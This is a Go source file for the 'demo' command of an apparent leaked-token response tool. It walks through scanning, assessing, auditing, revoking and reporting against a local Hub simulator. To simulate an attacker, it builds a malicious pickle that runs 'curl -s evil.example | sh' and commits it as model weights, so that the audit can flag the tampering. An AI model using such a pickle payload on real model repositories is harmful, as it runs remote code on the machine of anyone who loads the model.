package cli

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"time"

	"github.com/spf13/cobra"

	"github.com/hfwarden/hfwarden/internal/assess"
	"github.com/hfwarden/hfwarden/internal/audit"
	"github.com/hfwarden/hfwarden/internal/detect"
	"github.com/hfwarden/hfwarden/internal/hub"
	"github.com/hfwarden/hfwarden/internal/hubsim"
	"github.com/hfwarden/hfwarden/internal/incidentreport"
	"github.com/hfwarden/hfwarden/internal/scan"
)

func newDemoCmd(e *env) *cobra.Command {
	var out string
	cmd := &cobra.Command{
		Use:   "demo [--out DIR]",
		Short: "Run a whole leak response against the built-in Hub simulator",
		Long: `Start the built-in Hub simulator, write a small git repository that leaked a
simulator token (in a commit that was later "fixed", and in a notebook output),
then scan → assess → (an attacker uses the token) → audit → revoke → report, recording everything in an incident store.
DIR (default: a new temporary directory) keeps the repository, the database and
report.html. Nothing leaves this machine: the simulator's tokens are valid nowhere
else.`,
		Args: cobra.NoArgs,
		RunE: func(c *cobra.Command, _ []string) error {
			return runDemo(c.Context(), e, out)
		},
	}
	cmd.Flags().StringVar(&out, "out", "", "directory for the demo repository, database and report (default: a new temporary directory)")
	return cmd
}

func runDemo(ctx context.Context, e *env, out string) error {
	if _, err := exec.LookPath("git"); err != nil {
		return usageErr("the demo needs git on the PATH")
	}
	var err error
	if out == "" {
		if out, err = os.MkdirTemp("", "hfwarden-demo-"); err != nil {
			return err
		}
	} else if err := os.MkdirAll(out, 0o755); err != nil {
		return usageErr("--out: %v", err)
	}
	step := func(format string, args ...any) { fmt.Fprintf(e.stdout, "==> "+format+"\n", args...) }

	sc := hubsim.DemoScenario()
	url, stop, err := hubsim.New(sc, hubsim.Options{}).Start("127.0.0.1:0")
	if err != nil {
		return err
	}
	defer stop()
	step("Hub simulator on %s", url)
	var leaked string
	for _, t := range sc.Tokens {
		if t.User == "alice" && t.Kind == hubsim.KindClassic {
			leaked = t.Token
		}
	}

	repo := filepath.Join(out, "repo")
	if err := writeDemoRepo(ctx, repo, leaked); err != nil {
		return fmt.Errorf("writing the demo repository: %w", err)
	}
	step("wrote %s: a token committed, then \"removed\", and printed in a notebook output", repo)

	db := dbFlags{dsn: filepath.Join(out, "hfwarden.db"), keyFile: filepath.Join(out, "hfwarden.key")}
	st, err := db.open(ctx)
	if err != nil {
		return err
	}
	defer st.Close()
	c, err := hub.New(hub.Options{Endpoint: url, UserAgent: "hfwarden/" + Version})
	if err != nil {
		return err
	}
	verifier := &assess.Verifier{Client: c}

	// Scan the history and the work tree, verify, record.
	opt := scan.Options{Detect: detect.Options{}}
	hist, _, err := scan.New(opt).RunGit(ctx, []string{repo}, scan.GitOptions{CacheDir: filepath.Join(out, "cache"), Full: true})
	if err != nil {
		return err
	}
	tree, _, err := scan.New(opt).Run(ctx, []string{repo})
	if err != nil {
		return err
	}
	all := append(hist, tree...)
	scan.Verify(ctx, all, verifier, nil, 2)
	res, err := st.RecordScan(ctx, "demo", all, time.Now().UTC())
	if err != nil {
		return err
	}
	step("scan: %d occurrences (git history and work tree) of %d secret(s); recorded %d incident(s)", len(all), len(res.Incidents), res.NewIncidents)
	if len(res.Incidents) == 0 {
		return fmt.Errorf("the demo scan found nothing")
	}
	id := res.Incidents[0]

	r, err := assessIncident(ctx, st, c, id, 200, 2*time.Minute)
	if err != nil {
		return err
	}
	step("assess: %s, owner %s, severity %s — %d repositories reachable", r.Status, r.Owner, r.Severity, len(r.Repos))
	for _, why := range r.Reasons {
		fmt.Fprintf(e.stdout, "      %s\n", why)
	}

	// While the token was out, somebody used it: swap a model's weights for
	// a pickle that runs a command when loaded. The audit must say so.
	var target string
	for _, rp := range r.Repos {
		if rp.Type == hub.RepoModel && (rp.Access == assess.Write || rp.Access == assess.Admin) {
			target = rp.ID
			break
		}
	}
	if target == "" {
		return fmt.Errorf("the demo token can write no model")
	}
	payload := []byte("\x80\x02cposix\nsystem\nq\x00X\x1a\x00\x00\x00curl -s evil.example | shq\x01\x85q\x02Rq\x03.")
	if _, err := c.Commit(ctx, leaked, hub.RepoModel, target, "main", "Update weights", map[string][]byte{"pytorch_model.bin": payload}, nil); err != nil {
		return fmt.Errorf("playing the attacker: %w", err)
	}
	step("an attacker used the leaked token: %s/pytorch_model.bin now holds a pickle that runs a shell command", target)

	aopt := audit.Options{Client: c}
	if _, err := prepareIncidentAudit(ctx, st, id, &aopt, tokenSource{}, nil); err != nil {
		return err
	}
	aopt.Owner, aopt.Repos = r.Owner, writableRepos(r)
	ar, err := audit.Run(ctx, aopt)
	if err != nil {
		return fmt.Errorf("auditing: %w", err)
	}
	if err := st.SaveAudit(ctx, id, ar, time.Now().UTC()); err != nil {
		return err
	}
	step("audit: %d finding(s) in %d writable repositories since the exposure started", len(ar.Findings), len(aopt.Repos))
	for _, f := range ar.Findings {
		if audit.Rank(f.Severity) >= audit.Rank(audit.High) {
			fmt.Fprintf(e.stdout, "      %s %s %s: %s\n", f.Severity, f.Kind, f.Repo, f.Evidence)
		}
	}

	in, err := st.Incident(ctx, id)
	if err != nil {
		return err
	}
	step("revoke incident #%d", id)
	secret, err := st.Secret(ctx, id)
	if err != nil {
		return err
	}
	if err := revoke(ctx, e, st, c, []revokeTarget{{*in, secret}}, revokeOptions{timeout: 30 * time.Second}); err != nil {
		return err
	}

	in, occ, ev, err := loadIncident(ctx, st, id)
	if err != nil {
		return err
	}
	path := filepath.Join(out, "report.html")
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	bw := bufio.NewWriter(f)
	au, auAt, err := st.Audit(ctx, id)
	if err != nil {
		return err
	}
	data := incidentreport.Data{Incident: *in, Occurrences: occ, Events: ev, Assessment: in.Assessment, Generated: time.Now().UTC(), Audit: incidentreport.FromAudit(au, auAt)}
	if err := incidentreport.HTML(bw, data); err != nil {
		f.Close()
		return err
	}
	if err := bw.Flush(); err != nil {
		f.Close()
		return err
	}
	if err := f.Close(); err != nil {
		return err
	}
	step("report: %s", path)
	fmt.Fprintf(e.stdout, "\nincident #%d is %s. Look around:\n  hfwarden incidents list --db %s\n  hfwarden incidents show %d --db %s\n  open %s\n",
		id, in.State, db.dsn, id, db.dsn, path)
	return nil
}

// writeDemoRepo makes a repository whose history holds the token in a
// config file that a later commit cleaned, and whose notebook prints it.
func writeDemoRepo(ctx context.Context, dir, token string) error {
	if err := os.RemoveAll(dir); err != nil {
		return err
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	git := func(args ...string) error {
		cmd := exec.CommandContext(ctx, "git", append([]string{"-c", "user.name=Alice", "-c", "user.email=alice@example.com", "-c", "commit.gpgsign=false"}, args...)...)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_DATE=2024-06-03T10:00:00Z", "GIT_COMMITTER_DATE=2024-06-03T10:00:00Z")
		if b, err := cmd.CombinedOutput(); err != nil {
			return fmt.Errorf("git %s: %v: %s", args[0], err, b)
		}
		return nil
	}
	write := func(name, body string) error {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			return err
		}
		return os.WriteFile(p, []byte(body), 0o644)
	}
	nb, _ := json.MarshalIndent(map[string]any{
		"nbformat": 4, "nbformat_minor": 5, "metadata": map[string]any{},
		"cells": []any{map[string]any{
			"cell_type": "code", "execution_count": 1, "metadata": map[string]any{},
			"source": []string{"import os\n", "print(os.environ)\n"},
			"outputs": []any{map[string]any{"output_type": "stream", "name": "stdout",
				"text": []string{"{'HOME': '/home/alice', 'HF_TOKEN': '" + token + "'}\n"}}},
		}},
	}, "", " ")
	steps := []func() error{
		func() error { return git("init", "-q", "-b", "main") },
		func() error {
			return write("train.py", "from huggingface_hub import login\nlogin(token=\""+token+"\")\n")
		},
		func() error { return git("add", ".") },
		func() error { return git("commit", "-qm", "Train the sentiment model") },
		func() error {
			return write("train.py", "import os\nfrom huggingface_hub import login\nlogin(token=os.environ[\"HF_TOKEN\"])\n")
		},
		func() error { return write("notebooks/explore.ipynb", string(nb)+"\n") },
		func() error { return git("add", ".") },
		func() error { return git("commit", "-qm", "Read the token from the environment") },
	}
	for _, s := range steps {
		if err := s(); err != nil {
			return err
		}
	}
	return nil
}
